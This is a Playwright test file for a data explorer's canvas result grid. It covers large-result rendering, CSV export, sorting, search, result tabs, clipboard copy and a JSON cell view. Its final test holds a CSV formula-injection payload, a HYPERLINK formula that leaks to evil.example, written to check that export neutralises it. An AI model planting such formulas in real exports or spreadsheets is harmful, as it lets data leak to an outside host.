import { readFile } from 'node:fs/promises';
import { expect, test, type Page } from '@playwright/test';
import { recordsText, selectors as s } from '../src/testing/selectors';
import { clusterCount } from './support/cluster-api';
import { captureScreens } from './support/screens';
import { dataRows, resultGrid, resultStatus, runQuery, signIn } from './support/session';

// Must match ResultGrid's HEADER_HEIGHT / ROW_HEIGHT: the canvas has no DOM per cell, so a
// click on a header or cell is a click at its drawn position.
const HEADER_HEIGHT = 34;
const ROW_HEIGHT = 30;

/** The drawn grid; pointer input goes here (the accessible grid is not drawn). */
const canvas = (page: Page) => page.getByTestId('result-grid');
const cell = (page: Page, text: string) => resultGrid(page).getByRole(s.results.cell.role, { name: text, exact: true });
const header = (page: Page, name: string) => resultGrid(page).getByRole(s.results.columnHeader.role, { name, exact: true });
const resultTab = (page: Page, name: string) =>
  page.getByRole(s.results.tabs.role, { name: s.results.tabs.name }).getByRole('tab', { name, exact: true });

/** Clicks inside the first column: of the header (row -1) or of a data row in view. */
async function clickFirstColumn(page: Page, row: number) {
  await canvas(page).click({ position: { x: 30, y: row < 0 ? HEADER_HEIGHT / 2 : HEADER_HEIGHT + ROW_HEIGHT * row + ROW_HEIGHT / 2 } });
}

/** Selects a cell of the first column in view and waits until the grid holds the selection, so keys act on it. */
async function selectFirstColumnCell(page: Page, row: number) {
  await clickFirstColumn(page, row);
  await expect(dataRows(page).nth(row).getByRole(s.results.cell.role).first()).toHaveAttribute('aria-selected', 'true');
}

const BIG_QUERY = 'range i from 1 to 500000 step 1 | extend s = strcat("row ", tostring(i)), d = i * 2.5';

test('500,000 rows: render, scroll to the end, export, sort and search', async ({ page }, testInfo) => {
  test.setTimeout(180_000);
  await page.setViewportSize({ width: 1400, height: 900 });
  await signIn(page);
  await runQuery(page, BIG_QUERY);
  await expect(resultStatus(page)).toHaveText(recordsText(500_000), { timeout: 90_000 });
  await expect(resultGrid(page)).toHaveAttribute('aria-rowcount', '500001');
  await expect(resultGrid(page).getByRole(s.results.columnHeader.role)).toHaveText(['i', 's', 'd']);
  await expect(dataRows(page).first().getByRole(s.results.cell.role)).toHaveText(['1', 'row 1', '2.5']);

  // Ctrl+End moves to the last cell; the accessible window follows the canvas.
  await selectFirstColumnCell(page, 0);
  await page.keyboard.press('ControlOrMeta+End');
  await expect(cell(page, '500000')).toBeAttached();
  await expect(dataRows(page).last()).toHaveAttribute('aria-rowindex', '500001');
  await expect(dataRows(page).last().getByRole(s.results.cell.role)).toHaveText(['500000', 'row 500000', '1250000']);

  // The CSV is built in chunks from the column stores: 500,000 lines plus the header.
  const downloading = page.waitForEvent('download');
  await page.getByRole(s.results.exportCsv.role, { name: s.results.exportCsv.name }).click();
  const download = await downloading;
  const csv = await readFile(await download.path(), 'utf8');
  expect(csv.startsWith('\uFEFFi,s,d\r\n1,row 1,2.5\r\n')).toBe(true);
  expect(csv.endsWith('\r\n500000,row 500000,1250000\r\n')).toBe(true);
  expect(csv.split('\r\n')).toHaveLength(500_002);

  // Header click: ascending (already the range's order), then descending → 500000 first.
  await clickFirstColumn(page, -1);
  await expect(header(page, 'i')).toHaveAttribute('aria-sort', 'ascending');
  await clickFirstColumn(page, -1);
  await expect(header(page, 'i')).toHaveAttribute('aria-sort', 'descending');
  await expect(dataRows(page).first().getByRole(s.results.cell.role)).toHaveText(['500000', 'row 500000', '1250000']);
  await expect(dataRows(page).first()).toHaveAttribute('aria-rowindex', '2');
  await page.screenshot({ path: testInfo.outputPath('results-500k-sorted.png') });

  // Search keeps only the matching rows, still in the sort order: 499999…499990, then 49999.
  await page.getByRole(s.results.search.role, { name: s.results.search.name }).fill('row 49999');
  await expect(page.getByRole(s.results.actionStatus.role, { name: s.results.actionStatus.name })).toHaveText('11 of 500000 rows match.');
  await expect(resultGrid(page)).toHaveAttribute('aria-rowcount', '12');
  await expect(dataRows(page).first().getByRole(s.results.cell.role).first()).toHaveText('499999');
  await expect(dataRows(page).first()).toHaveAttribute('aria-rowindex', '2');
  // Only the rows in view are in the accessible grid; the last match is at the end.
  await selectFirstColumnCell(page, 0);
  await page.keyboard.press('ControlOrMeta+End');
  await expect(dataRows(page).last()).toHaveAttribute('aria-rowindex', '12');
  await expect(dataRows(page).last().getByRole(s.results.cell.role).first()).toHaveText('49999');
  await expect(resultStatus(page)).toHaveText(recordsText(500_000));
});

test('a batch shows one tab per result table', async ({ page }) => {
  const count = await clusterCount('StormEvents');
  await signIn(page);
  await runQuery(page, 'StormEvents | take 3; StormEvents | count');
  await expect(resultTab(page, 'Table 1')).toHaveAttribute('aria-selected', 'true');
  await expect(resultTab(page, 'Table 2')).toHaveAttribute('aria-selected', 'false');
  await expect(resultStatus(page)).toHaveText(recordsText(3));
  await expect(dataRows(page)).toHaveCount(3);

  await resultTab(page, 'Table 2').click();
  await expect(resultTab(page, 'Table 2')).toHaveAttribute('aria-selected', 'true');
  await expect(resultStatus(page)).toHaveText(recordsText(1));
  await expect(resultGrid(page).getByRole(s.results.columnHeader.role)).toHaveText(['Count']);
  await expect(resultGrid(page).getByRole(s.results.cell.role)).toHaveText([String(count)]);

  // Ctrl+C on a selected cell copies its text; "Copy results as HTML" puts the query and a table there.
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await selectFirstColumnCell(page, 0);
  await page.keyboard.press('ControlOrMeta+C');
  await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(String(count));
  await page.getByRole(s.results.copyHtml.role, { name: s.results.copyHtml.name }).click();
  await expect(page.getByRole(s.results.actionStatus.role, { name: s.results.actionStatus.name })).toHaveText('Copied 1 row as HTML.');
  const html = await page.evaluate(async () => {
    const [item] = await navigator.clipboard.read();
    return item ? await (await item.getType('text/html')).text() : '';
  });
  // The query that produced the result heads the table.
  expect(html).toContain('<pre><code>StormEvents | take 3; StormEvents | count</code></pre>');
  expect(html).toMatch(new RegExp(`<th [^>]*>Count</th></tr></thead><tbody><tr><td [^>]*>${count}</td></tr>`));
});

test('a dynamic cell opens as a JSON tree', async ({ page }, testInfo) => {
  await page.setViewportSize({ width: 1400, height: 900 });
  await signIn(page);
  await runQuery(page, 'print Name = "bag", Bag = dynamic({"a": 1, "b": [1, 2, 3], "c": {"x": "<b>y</b>"}})');
  await expect(resultStatus(page)).toHaveText(recordsText(1));
  await expect(cell(page, '{"a":1,"b":[1,2,3],"c":{"x":"<b>y</b>"}}')).toBeAttached();

  // Select Name in row 1, move right to Bag, Enter opens it.
  await selectFirstColumnCell(page, 0);
  await page.keyboard.press('ArrowRight');
  await page.keyboard.press('Enter');
  const detail = page.getByRole(s.results.cellDetail.role, { name: s.results.cellDetail.name });
  await expect(detail).toBeVisible();
  const tree = detail.getByRole(s.results.jsonTree.role, { name: s.results.jsonTree.name });
  await expect(tree.getByRole('treeitem', { name: 'a: 1', exact: true })).toBeVisible();
  await expect(tree.getByRole('treeitem', { name: 'b: array, 3 items', exact: true })).toHaveAttribute('aria-expanded', 'true');
  await expect(tree.getByRole('treeitem', { name: 'x: "<b>y</b>"', exact: true })).toBeVisible();

  await tree.getByRole('treeitem', { name: 'b: array, 3 items', exact: true }).click();
  await expect(tree.getByRole('treeitem', { name: 'b: array, 3 items', exact: true })).toHaveAttribute('aria-expanded', 'false');
  await expect(tree.getByRole('treeitem')).toHaveCount(5);

  await page.screenshot({ path: testInfo.outputPath('results-light.png') });
  const toDark = page.getByRole(s.theme.toDark.role, { name: s.theme.toDark.name });
  await toDark.click();
  await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
  await page.screenshot({ path: testInfo.outputPath('results-dark.png') });
});

test('CSV export neutralises cells a spreadsheet would run as formulas, unless Raw values is ticked', async ({ page }, testInfo) => {
  await signIn(page);
  // Cell text a cluster owner controls: a formula that leaks data through a link, and a sum.
  await runQuery(page, 'print link = \'=HYPERLINK("http://evil.example/?leak","x")\', sum = "+SUM(1,1)", n = -2');
  await expect(resultStatus(page)).toHaveText(recordsText(1));
  const exportCsv = async () => {
    const downloading = page.waitForEvent('download');
    await page.getByRole(s.results.exportCsv.role, { name: s.results.exportCsv.name }).click();
    return readFile(await (await downloading).path(), 'utf8');
  };
  expect(await exportCsv()).toBe('\uFEFFlink,sum,n\r\n"\'=HYPERLINK(""http://evil.example/?leak"",""x"")","\'+SUM(1,1)",-2\r\n');

  const raw = page.getByRole(s.results.rawValues.role, { name: s.results.rawValues.name });
  await expect(raw).not.toBeChecked();
  await captureScreens(page, testInfo, 'results-toolbar', () => expect(raw).toBeVisible());
  await raw.check();
  expect(await exportCsv()).toBe('\uFEFFlink,sum,n\r\n"=HYPERLINK(""http://evil.example/?leak"",""x"")","+SUM(1,1)",-2\r\n');
});
